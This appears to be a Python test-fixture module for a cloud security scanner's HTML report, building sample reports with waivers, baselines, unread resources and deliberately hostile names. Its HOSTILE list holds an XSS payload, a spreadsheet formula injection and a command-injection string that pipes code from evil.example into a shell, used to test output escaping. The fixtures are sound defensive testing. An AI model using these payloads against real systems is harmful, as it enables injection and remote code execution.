"""Reports that were compared with an earlier one, with waivers and accepted gaps, for the HTML tests."""

from __future__ import annotations

from typing import Any

import html_samples as samples

from scanner.model import Gap, Report, Why, fingerprint

HOSTILE = (
    *samples.HOSTILE,
    '"><img onerror=window.pwned=1 src=x>',
    "=cmd|'/C calc'!A0",
    "line one\nline two\r\n\tline three",
    "; curl evil.example | sh #",
    "half a pair \ud83d",
    "\u2067right to left\u2069 \u200bzero width",
    "long-" + "0123456789" * 1024,
)
"""What an attacker may call a bucket's tag, a role or a file; the last has ten kilobytes."""

BUCKET = "AWS::S3::Bucket"


def compared() -> Report:
    """Every change, every kind of difference, every problem of a waiver, an accepted gap."""
    made = samples.small()
    exports, notes, logs, _ = (f"arn:aws:s3:::{name}" for name in ("exports", "notes", "logs", "old"))
    group = f"arn:aws:ec2:eu-central-1:{samples.ACCOUNTS[0]}:security-group/sg-0a1"
    changes = {
        ("s3-bucket-policy-public", exports): "new",
        ("s3-bucket-versioning", exports): "existing",
        ("s3-bucket-versioning", notes): "fixed",
        ("s3-bucket-policy-public", logs): "not_assessed",
        ("sg-ingress-ssh", group): "reopened",
    }
    for item in made.findings:
        item.change = changes.get((item.rule_id, item.resource_id), "existing")
    made.baseline = baseline(gone=[gone("resource", "old"), gone("rule", "exports"), gone("not_scanned", "far")])
    made.changes = [
        difference("changed", "exports", POLICY_CHANGES),
        difference("added", "exports-copy", []),
        difference("removed", "old", []),
    ]
    made.waivers = [
        waiver(rule="s3-bucket-versioning", resource=exports, findings=1),
        waiver(rule="s3-*", account="1111*", problems=["expired"], expires="2026-01-31"),
        waiver(rule="kms-*", resource="k?y", problems=["unused"], expires="", exclude=[{"resource": "key-1"}]),
        waiver(rule="sg-*", region="us-*", tags={"env": "dev*"}, problems=["unused"]),
        waiver(rule="*", problems=["too_broad", "unused"]),
    ]
    accepted = {
        "reason": "The vendor holds this account",
        "owner": "platform",
        "expires": "2027-01-31",
        "source": "a:3",
    }
    made.gaps.append(
        Gap(
            samples.ACCOUNTS[1],
            "us-east-1",
            "kms",
            "ListKeys",
            "kms:ListKeys",
            Why.DENIED,
            ("AWS::KMS::Key",),
            accepted=accepted,
        )
    )
    return made


POLICY_CHANGES: list[dict[str, Any]] = [
    {"path": "/Policy/Statement/1", "before": None, "after": samples.POLICY["Statement"][1]},
    {"path": "/PublicAccessBlockConfiguration/RestrictPublicBuckets", "before": True, "after": False},
    {"path": "/tags/owner", "before": "platform", "after": None},
    {"path": "/Acl", "before": None, "after": "private", "before_unknown": "denied: s3:GetBucketAcl"},
]


def baseline(**more: Any) -> dict[str, Any]:
    return {
        "taken_at": "2026-11-16T06:00:00Z",
        "version": "0.1.0",
        "accounts": [samples.ACCOUNTS[0], "999988887777"],
        "regions": ["global", *samples.REGIONS],
        "rules_added": ["sg-ingress-ssh"],
        "rules_removed": ["s3-bucket-old-rule"],
        "counts": {"new": 1, "reopened": 1, "existing": 3, "fixed": 1, "not_assessed": 1, "gone": 3},
        "gone": [],
        **more,
    }


def gone(why: str, name: str, **more: Any) -> dict[str, Any]:
    id_ = f"arn:aws:s3:::{name}"
    made = {
        "rule_id": "s3-bucket-old-rule",
        "resource_id": id_,
        "resource_type": BUCKET,
        "account": samples.ACCOUNTS[0],
        "region": samples.REGIONS[0],
        "verdict": "fail",
        "severity": "high",
        "message": f"{name} was open",
        "fingerprint": fingerprint("s3-bucket-old-rule", id_),
        "why": why,
    }
    return made | more


def difference(kind: str, name: str, members: list[dict[str, Any]], **more: Any) -> dict[str, Any]:
    made = {
        "kind": kind,
        "resource_id": f"arn:aws:s3:::{name}",
        "resource_type": BUCKET,
        "name": name,
        "account": samples.ACCOUNTS[0],
        "region": samples.REGIONS[0],
        "members": members,
    }
    return made | more


def waiver(**more: Any) -> dict[str, Any]:
    made: dict[str, Any] = {
        "rule": "s3-*",
        "account": "",
        "region": "",
        "resource": "",
        "tags": {},
        "fingerprint": "",
        "findings": 0,
        "problems": [],
        "reason": "Rebuilt every night",
        "owner": "platform",
        "expires": "2027-02-28",
        "source": "posture.waivers.toml:4",
    }
    return made | more


def unread() -> Report:
    """One resource with every kind of unread place."""
    id_ = "arn:aws:s3:::partly"
    denied = {"why": "denied", "service": "s3", "operation": "GetBucketPolicy", "permission": "s3:GetBucketPolicy"}
    config = {
        "Name": "partly",
        "Flags": {"One": True, "Two": "yes"},
        "Statements": [
            {"Sid": "A", "Effect": "Allow"},
            {"Sid": "B", "Effect": "Deny", "Inner": {"Deep": {"Er": [1, {}]}}},
        ],
        "Grants": [{"Grantee": {"Id": "x"}, "Permission": "READ"}],
    }
    unknown = {
        "/Policy": denied,
        "/Flags/Three": {"why": "after_apply"},
        "/Statements/1/Condition": {"why": "throttled", "message": "gave up after 8 attempts"},
        "/Grants/-": {"why": "not_collected", "kind": "more"},
        "/Grants/0": {"why": "denied", "kind": "maybe"},
        "/derived/exposure/ports": denied,
    }
    body = samples.resource(id_, BUCKET, "partly", config, unknown=unknown, derived={"exposure": {"internet": False}})
    finding = samples.finding("s3-bucket-policy-public", id_, "unknown", "Cannot tell for partly")
    return samples.report([finding], resources={id_: body})


def hostile_everywhere() -> Report:
    """Names that try to be markup, formulas, commands or walls of text, in everything that the page shows."""
    made = samples.hostile()
    for index, text in enumerate(HOSTILE):
        id_ = f"arn:aws:s3:::{text}"
        change = ("new", "fixed", "not_assessed", "reopened")[index % 4]
        verdict = {"new": "fail", "reopened": "fail", "fixed": "pass", "not_assessed": "unknown"}[change]
        fix = {"cli": text, "terraform": text, "cloudformation": text}
        made.findings.append(
            samples.finding("s3-bucket-versioning", id_, verdict, text, change=change, fix=fix, account=text[:40])
        )
        config = {"Policy": {text: text}, text: {text: [text, {text: text}]}, "Text": text}
        unknown = {f"/{text.replace('~', '~0').replace('/', '~1')}": {"why": text, "message": text, "operation": text}}
        tags = {text: text, "constructor": text}
        made.resources[id_] = samples.resource(id_, BUCKET, text, config, tags=tags, unknown=unknown)
    made.rules["s3-bucket-versioning"] = samples.RULES["s3-bucket-versioning"] | {
        "title": HOSTILE[0],
        "why": HOSTILE[1],
    }
    made.findings.sort(key=lambda item: item.sort_key())
    members = [{"path": f"/{text}", "before": text, "after": {text: [text]}} for text in HOSTILE]
    made.changes = [difference("changed", text, members, account=text, region=text) for text in HOSTILE]
    made.baseline = baseline(
        gone=[gone("resource", text, message=text, account=text) for text in HOSTILE],
        taken_at=HOSTILE[0],
        version=HOSTILE[1],
        accounts=list(HOSTILE),
        rules_added=list(HOSTILE),
    )
    made.waivers = [
        waiver(rule=text, resource=text, tags={text: text}, reason=text, owner=text, expires=text, source=text)
        for text in HOSTILE
    ]
    return made


def heavy() -> Report:
    """As much of everything as one screen can meet: services, rules on a resource, members, frameworks, waivers."""
    services = [f"service{n:02}" for n in range(45)]
    frameworks = {f"framework-{n}": [f"{n}.{k}" for k in range(8)] for n in range(12)}
    rules = {
        f"{service}-{n}": samples.rule(f"{service}-{n}", "high", service, BUCKET, f"Goal {n}", frameworks=frameworks)
        for service in services
        for n in range(2)
    }
    ids = [f"arn:aws:s3:::bucket-{n}" for n in range(60)]
    findings, resources = [], {}
    for number, id_ in enumerate(ids):
        place = {"account": f"{100000000000 + number % 40}", "region": f"region-{number % 17}"}
        for index, rule_id in enumerate(rules):
            if number and index % 9:
                continue  # the first resource is judged by every rule
            verdict = ("fail", "unknown", "pass")[(number + index) % 3]
            message = f"{id_} breaks {rule_id}"
            findings.append(samples.finding(rule_id, id_, verdict, message, change="new", **place))
        members: dict[str, Any] = {f"Member{n}": {"Status": "on", "List": [1, {"a": [2, 3]}]} for n in range(80)}
        tags = {f"tag-{n}": "value" for n in range(50)}
        unknown = {f"/Member{n}/Other": {"why": "denied"} for n in range(40)}
        more: dict[str, Any] = {"derived": members, "tags": tags, "unknown": unknown}
        resources[id_] = samples.resource(id_, BUCKET, id_[13:], members, **more, **place)
    made = samples.report(findings, rules=rules, resources=resources)
    made.baseline = baseline(gone=[gone("resource", f"old-{n}") for n in range(90)])
    made.changes = [difference("changed", f"bucket-{n}", POLICY_CHANGES * 5) for n in range(60)]
    made.waivers = [waiver(rule=f"rule-{n}", problems=["unused"], tags={"a": "b"}) for n in range(80)]
    accepted = {"reason": "x", "owner": "y", "expires": "2027-01-31"}
    made.gaps = [
        Gap(
            f"{100000000000 + n}",
            "x",
            "s3",
            f"Get{n}",
            "s3:Get",
            Why.DENIED,
            (BUCKET,),
            accepted=accepted if n % 2 else None,
        )
        for n in range(120)
    ]
    return made
